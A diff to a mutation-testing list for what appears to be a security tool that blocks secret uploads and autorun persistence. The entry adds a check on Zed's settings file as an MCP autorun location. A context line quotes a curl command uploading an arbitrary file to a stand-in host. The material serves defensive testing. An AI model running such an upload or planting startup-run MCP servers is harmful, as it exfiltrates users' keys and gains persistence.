@@ -3680,4 +3680,12 @@ export const MUTANTS = [
     tests: ['packs/secrets/runTimeSends'],
     why: '`curl -T "$F" https://x.example.com` uploads whatever file the variable names, a key among them, allowed',
   },
+  {
+    id: 'autorun.zed-mcp-unplaced',
+    file: 'src/core/packs/autorun/places.ts',
+    from: "  '.config/zed/settings.json',",
+    to: '',
+    tests: ['packs/autorun/moreMcpConfigs'],
+    why: "an MCP server written into Zed's user settings runs when Zed starts, allowed",
+  },
 ];
